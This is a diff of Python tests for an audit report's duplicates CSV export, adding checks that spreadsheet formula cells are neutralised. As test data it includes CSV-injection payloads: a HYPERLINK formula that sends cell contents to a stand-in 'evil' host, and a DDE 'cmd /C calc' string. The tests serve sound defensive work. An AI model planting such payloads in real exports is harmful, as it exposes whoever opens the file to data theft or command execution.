@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 
@@ -20,7 +22,7 @@ from audit.report import (
     waste_by_week_figure,
 )
 from audit.report_page import policy_sentences, week_comparison
-from audit.words import duration, money
+from audit.words import duration, money, spreadsheet_safe
 from tests.audit.conftest import AS_OF
 
 
@@ -177,19 +179,34 @@ def test_a_timeline_with_nothing_to_draw_is_a_sentence_not_an_empty_chart(fixtur
 
 
 def test_duplicates_csv_is_the_text_to_csv_writes(result):
-    # Written column-wise for speed; it must stay the text pandas writes, awkward values included.
-    awkward = ["plain", "a,b", 'say "hi"', "line\nbreak", "cr\rhere", "", " lead", "tab\there", "ünï 🎆", None]
+    # Written column-wise for speed; it must stay the text pandas writes, awkward values included,
+    # once text cells that a spreadsheet would run as formulas are neutralised (OWASP's rule).
+    awkward = ["plain", "a,b", 'say "hi"', "line\nbreak", "cr\rhere", "", " lead", "tab\there", "ünï 🎆", None,
+               '=HYPERLINK("http://evil/?"&A1,"see")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
     n = len(awkward)
     table = result.duplicates.iloc[[0] * n].reset_index(drop=True)
     table["prompt"] = pd.Series(awkward, dtype="str")
     table["basis"] = pd.Series(awkward, dtype=object)
-    table["gap_seconds"] = [0.1, 1e16, 1e-5, float("nan"), 3.0, -0.0, 2.5, 1e22, 123456.789, float("inf")]
+    table["gap_seconds"] = [0.1, 1e16, 1e-5, float("nan"), 3.0, -0.0, 2.5, 1e22, 123456.789, float("inf"),
+                            -1.5, -0.0, -2.0, 4.0, 5.0, 6.0]
     table["tg_user_id"] = pd.array([1, None] * (n // 2), dtype="Int64")
     table.loc[n - 1, "requested_at"] = pd.NaT
     expected = table.reindex(columns=DUPLICATE_CSV_COLUMNS)
     for column in ("requested_at", "created_at", "original_created_at", "previous_created_at"):
         expected[column] = [t.isoformat() if pd.notna(t) else "" for t in expected[column]]
-    assert duplicates_csv(table) == expected.to_csv(index=False)
+    assert duplicates_csv(table) == spreadsheet_safe(expected).to_csv(index=False)
     assert duplicates_csv(result.duplicates.iloc[:0]) == ",".join(DUPLICATE_CSV_COLUMNS) + "\n"
     text = duplicates_csv(table)
     assert text.count('"a,b"') == text.count('"say ""hi"""') == text.count('"line\nbreak"') == 2  # prompt, basis
+
+
+def test_duplicates_csv_cells_never_run_as_formulas(result):
+    # (A CR at the start is neutralised too, see the test above; the csv module cannot read it back.)
+    prompts = ['=HYPERLINK("http://evil/","click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1+1",
+               "a = b", "mail@example.com"]
+    table = result.duplicates.iloc[[0] * len(prompts)].reset_index(drop=True)
+    table["prompt"] = prompts
+    table["gap_seconds"] = -3.5  # numbers stay numbers
+    rows = list(csv.DictReader(io.StringIO(duplicates_csv(table))))
+    assert [row["prompt"] for row in rows] == ["'" + p for p in prompts[:5]] + prompts[5:]
+    assert {row["gap_seconds"] for row in rows} == {"-3.5"}
